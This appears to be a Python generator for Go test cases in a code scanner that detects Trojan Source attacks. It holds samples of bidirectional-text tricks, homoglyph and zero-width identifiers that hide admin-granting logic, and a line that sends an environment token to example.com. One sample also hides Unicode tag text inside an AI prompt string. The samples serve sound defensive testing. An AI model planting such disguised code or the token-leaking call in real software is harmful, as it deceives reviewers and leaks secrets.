# Builds codescan/trojan_cases_test.go: attack inputs written from the published
# Trojan Source definitions (Boucher & Anderson 2021), expected places computed here
# independently of the Go code (Python str.index on each line).
RLO,LRI,RLI,PDI,PDF,ZWSP='\u202e','\u2066','\u2067','\u2069','\u202c','\u200b'
cases=[]
def case(name,path,src,exp):
    # exp: list of (rule, needle, occurrence-on-line or line no) -> find line/col
    out=[]
    lines=src.split('\n')
    for rule,line,needle,nth in exp:
        l=lines[line-1]
        i=-1
        for _ in range(nth):
            i=l.index(needle,i+1)
        out.append((rule,line,i+1))
    cases.append((name,path,src,out))

case("early-return/python","attack.py",
 "bank = {'alice': 100}\n\ndef subtract_funds(account, amount):\n    ''' Subtract funds from bank account then "+RLI+"''' ;return"+LRI+"\n    bank[account] -= amount\n    return\n",
 [("bidi-control",4,RLI,1),("bidi-control",4,LRI,1)])
case("early-return/go","attack.go",
 "package main\n\nfunc isAdmin(user string) bool {\n\t/* guests are not admins "+RLI+"*/ return true"+LRI+"\n\treturn user == \"root\"\n}\n",
 [("bidi-control",4,RLI,1),("bidi-control",4,LRI,1)])
case("commenting-out/c","attack.c",
 "#include <stdio.h>\n#include <stdbool.h>\n\nint main() {\n    bool isAdmin = false;\n    /*"+RLO+" } "+LRI+"if (isAdmin)"+PDI+" "+LRI+" begin admins only */\n        printf(\"You are an admin.\\n\");\n    /* end admins only "+RLO+" { "+LRI+"*/\n    return 0;\n}\n",
 [("bidi-control",6,RLO,1),("bidi-control",6,LRI,1),("bidi-control",6,PDI,1),("bidi-control",6,LRI,2),
  ("bidi-control",8,RLO,1),("bidi-control",8,LRI,1)])
case("commenting-out/rust","attack.rs",
 "fn main() {\n    let is_admin = false;\n    /*"+RLO+" } "+LRI+"if is_admin"+PDI+" "+LRI+" begin admins only */\n        println!(\"You are an admin.\");\n    /* end admins only "+RLO+" { "+LRI+"*/\n}\n",
 [("bidi-control",3,RLO,1),("bidi-control",3,LRI,1),("bidi-control",3,PDI,1),("bidi-control",3,LRI,2),
  ("bidi-control",5,RLO,1),("bidi-control",5,LRI,1)])
case("commenting-out/js","attack.js",
 "let isAdmin = false;\n/*"+RLO+" } "+LRI+"if (isAdmin)"+PDI+" "+LRI+" begin admins only */\n    console.log(\"You are an admin.\");\n/* end admins only "+RLO+" { "+LRI+"*/\n",
 [("bidi-control",2,RLO,1),("bidi-control",2,LRI,1),("bidi-control",2,PDI,1),("bidi-control",2,LRI,2),
  ("bidi-control",4,RLO,1),("bidi-control",4,LRI,1)])
case("stretched-string/java","Attack.java",
 "public class Attack {\n    public static void main(String[] args) {\n        String accessLevel = \"user\";\n        if (accessLevel != \"user"+RLO+" "+LRI+"// Check if admin"+PDI+" "+LRI+"\") {\n            System.out.println(\"You are an admin.\");\n        }\n    }\n}\n",
 [("bidi-control",4,RLO,1),("bidi-control",4,LRI,1),("bidi-control",4,PDI,1),("bidi-control",4,LRI,2)])
case("stretched-string/csharp","Attack.cs",
 "class Attack {\n    static void Main() {\n        string level = \"user\";\n        if (level != \"user"+RLO+" "+LRI+"// Check if admin"+PDI+" "+LRI+"\") { System.Console.WriteLine(\"admin\"); }\n    }\n}\n",
 [("bidi-control",4,RLO,1),("bidi-control",4,LRI,1),("bidi-control",4,PDI,1),("bidi-control",4,LRI,2)])
case("stretched-string/python","attack.py",
 "access_level = \"user\"\nif access_level != 'none"+RLO+LRI+"' # Check if admin"+PDI+LRI+"':\n    print(\"You are an admin.\")\n",
 [("bidi-control",2,RLO,1),("bidi-control",2,LRI,1),("bidi-control",2,PDI,1),("bidi-control",2,LRI,2)])
case("homoglyph-function/python","attack.py",
 "def sayHello():\n    print(\"Hello, World!\")\n\ndef say\u041dello():\n    print(\"Goodbye, World!\")\n\nsay\u041dello()\n",
 [("confusable-identifiers",4,"say\u041dello",1),("mixed-script-identifier",4,"say\u041dello",1)])
case("homoglyph-function/go","attack.go",
 "package main\n\nfunc isAdmin() bool { return false }\n\nfunc is\u0410dmin() bool { return true }\n\nfunc main() {\n\tif is\u0410dmin() {\n\t\tprintln(\"admin\")\n\t}\n}\n",
 [("confusable-identifiers",5,"is\u0410dmin",1),("mixed-script-identifier",5,"is\u0410dmin",1)])
case("invisible-function/js","attack.js",
 "function isAdmin() {\n    return false;\n}\n\nfunction is"+ZWSP+"Admin() {\n    return true;\n}\n\nif (is"+ZWSP+"Admin()) {\n    console.log(\"You are an admin\");\n}\n",
 [("confusable-identifiers",5,"is"+ZWSP+"Admin",1),("invisible-character",5,ZWSP,1),("invisible-character",9,ZWSP,1)])
case("invisible-function/ruby","attack.rb",
 "def is_admin\n  false\nend\n\ndef is_"+ZWSP+"admin\n  true\nend\n\nputs 'admin' if is_"+ZWSP+"admin\n",
 [("confusable-identifiers",5,"is_"+ZWSP+"admin",1),("invisible-character",5,ZWSP,1),("invisible-character",9,ZWSP,1)])
case("hangul-filler/js","attack.js",
 "const \u3164 = process.env.TOKEN;\nfetch(`https://example.com/?t=${\u3164}`);\n",
 [("invisible-character",1,"\u3164",1),("invisible-character",2,"\u3164",1)])
case("tag-smuggling/python","attack.py",
 "PROMPT = \"Summarise this.\U000E0049\U000E0067\U000E006E\"\n",
 [("invisible-character",1,"\U000E0049",1)])
case("unknown-extension","notes.txt",
 "grant access if user"+RLO+" nimda si "+PDF+"\n",
 [("bidi-control",1,RLO,1),("bidi-control",1,PDF,1)])

def goq(s):
    out='"'
    for ch in s:
        o=ord(ch)
        if ch=='"': out+='\\"'
        elif ch=='\\': out+='\\\\'
        elif ch=='\n': out+='\\n'
        elif ch=='\t': out+='\\t'
        elif o<0x20 or (o>=0x7f and o<0xa0): out+='\\x%02x'%o
        elif o>=0x80: out+=('\\u%04x'%o) if o<0x10000 else ('\\U%08x'%o)
        else: out+=ch
    return out+'"'
print("// Code generated by testdata/gen_trojan_cases.py from the published Trojan Source definitions; expected places computed there. DO NOT EDIT.\n")
print("package codescan\n\nvar trojanCases = []trojanCase{")
for name,path,src,out in cases:
    print("\t{%s, %s, %s, []want{"%(goq(name),goq(path),goq(src)))
    for r,l,c in out:
        print("\t\t{%s, %d, %d},"%(goq(r),l,c))
    print("\t}},")
print("}")
